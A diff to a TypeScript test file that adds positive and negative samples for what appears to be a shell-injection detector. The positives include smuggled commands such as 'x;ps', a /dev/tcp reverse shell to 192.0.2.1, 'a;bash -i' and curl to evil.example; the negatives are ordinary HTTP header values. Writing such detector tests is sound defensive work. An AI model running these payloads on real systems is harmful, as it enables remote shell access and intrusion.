@@ -11,6 +11,9 @@ const positives: string[] = [
   '127.0.0.1\r\nuname -a',
   // Interpreters and network clients with something to run or fetch stay high.
   'x; curl 10.0.0.1',
+  'x;ps',
+  'x;find',
+  'd=/dev&&(sh)0>$d/tcp/192.0.2.1/777',
   '`curl evil.example`',
   'a;bash -i',
   '>(cmd)',
@@ -156,6 +159,12 @@ const negatives: string[] = [
   'useState<string>()',
   'new Map<string, number>()',
   '[Math]::Round(3.5)',
+  // Header and parameter values of real clients: Ruby Net::HTTP's Accept-Encoding, a SigV4
+  // Authorization header's SignedHeaders list, a StackExchange API tag list.
+  'gzip;q=1.0,deflate;q=0.6,identity;q=0.3',
+  'br;q=1.0, gzip;q=0.8, *;q=0.1',
+  'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20241211/us-east-1/execute-api/aws4_request, SignedHeaders=content-type;host;x-amz-date;x-amz-security-token, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024',
+  'python;node.js',
   'Use [System.IO.Path]::Combine(a, b) in PowerShell',
   // HTML text whose second word is a command name: to a shell, `more` with three redirections.
   '<a href="https://example.com/pricing">Learn more</a>',
